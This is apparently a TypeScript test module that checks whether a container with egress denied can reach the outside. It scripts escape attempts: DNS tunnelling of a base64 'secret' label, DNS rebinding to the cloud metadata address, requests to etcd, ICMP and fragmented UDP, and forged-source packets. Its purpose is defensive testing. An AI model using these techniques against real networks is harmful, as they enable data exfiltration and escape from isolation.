/** What a closed container (xnet.egress=deny) tries, to reach something outside. */
import { type Container, succeeds } from '../containers/containers.js';
import type { NameServer } from '../dns/name-server.js';
import { udp } from '../traffic/frames.js';
import type { Attempt } from './attempts.js';
import { arrives, sendFrames } from './frames.js';

export interface Closed {
  /** Its label lets through names below `inside.lab`, and nothing else. */
  readonly container: Container;
  readonly outside: string;
  readonly etcd: string;
  /** What its host asks. */
  readonly names: NameServer;
}

/** Below `inside.lab`; and where its owner would lead the container. */
export const REBOUND = { 'cloud.inside.lab': '169.254.169.254', 'router.inside.lab': '192.168.1.1' };

const PORT = 9999;
const LEG = 'eth1';

/** Of names and packets; when that was does not matter. */
async function logged({ container: { lab, host, name } }: Closed): Promise<string> {
  return (await lab.in(host, 'xnet', 'egress', 'log', name)).replace(/^\S+Z/gm, '');
}

function forged({ container: { lab, host } }: Closed): Promise<string> {
  return lab.in(host, 'nft', 'list', 'counter', 'netdev', 'xnet-egress', 'forged');
}

const isAnswered = ({ container }: Closed, ...query: string[]) =>
  succeeds(container.exec('dig', '+tries=1', '+time=1', ...query));

const fetches = ({ container }: Closed, url: string) => succeeds(container.exec('curl', '-sm', '1', url));

/** A frame of its own making, to the bridge of its host. */
async function leaves({ container, outside }: Closed, source: string, destination = outside) {
  const { lab, host } = container;
  const macOf = (command: Promise<string>) => command.then((text) => text.trim());
  const from = await macOf(container.exec('cat', `/sys/class/net/${LEG}/address`));
  const to = await macOf(lab.in(host, 'cat', '/sys/class/net/docker_gwbridge/address'));
  const frame = udp({ from, to, source, destination }, PORT);
  const send = () => container.exec('sh', '-c', sendFrames([frame], LEG));
  return arrives({ lab, host }, send, `udp port ${PORT}`);
}

export const CLOSED: readonly Attempt<Closed>[] = [
  {
    what: 'a connection to an address that no name was asked for',
    make: (scene) => fetches(scene, `http://${scene.outside}/`),
    seen: logged,
  },
  {
    what: 'a connection to the cluster’s etcd',
    make: (scene) => fetches(scene, `http://${scene.etcd}:2379/version`),
    seen: logged,
  },
  {
    what: 'a tunnel by ping',
    make: ({ container, outside }) => succeeds(container.exec('ping', '-c1', '-W1', outside)),
    seen: logged,
  },
  {
    what: 'UDP in fragments, of which only the first has the port',
    make: async ({ container, outside }) => {
      const echo = `head -c 4000 /dev/zero | tr '\\0' x | socat -b 4000 -t 1 - UDP:${outside}:7`;
      return (await container.exec('sh', '-c', echo)).includes('x');
    },
    seen: logged,
  },
  {
    what: 'a DNS tunnel to another server',
    make: (scene) => isAnswered(scene, `@${scene.outside}`, 'c2VjcmV0.tunnel.lab', 'TXT'),
    seen: logged,
  },
  {
    what: 'the same over TCP',
    make: (scene) => isAnswered(scene, '+tcp', `@${scene.outside}`, 'c2VjcmV0.tunnel.lab', 'TXT'),
    seen: logged,
  },
  {
    what: 'a DNS tunnel in names, by its own resolver',
    make: async (scene) => {
      await isAnswered(scene, 'c2VjcmV0.tunnel.lab', 'TXT');
      return scene.names.output.includes('tunnel.lab');
    },
    seen: logged,
  },
  ...Object.keys(REBOUND).map((name) => ({
    what: `an allowed name whose owner leads it inside (DNS rebinding): ${name}`,
    make: async ({ container }: Closed) => (await container.dig(name)).length > 0,
    seen: logged,
  })),
  {
    what: 'a packet with an address that is not its own, to the outside',
    make: (scene) => leaves(scene, '172.18.200.200'),
    seen: forged,
  },
  {
    what: 'IPv6, which its network does not have',
    make: (scene) => leaves(scene, 'fd00:18::99', 'fd00:19::1'),
    seen: forged,
  },
];
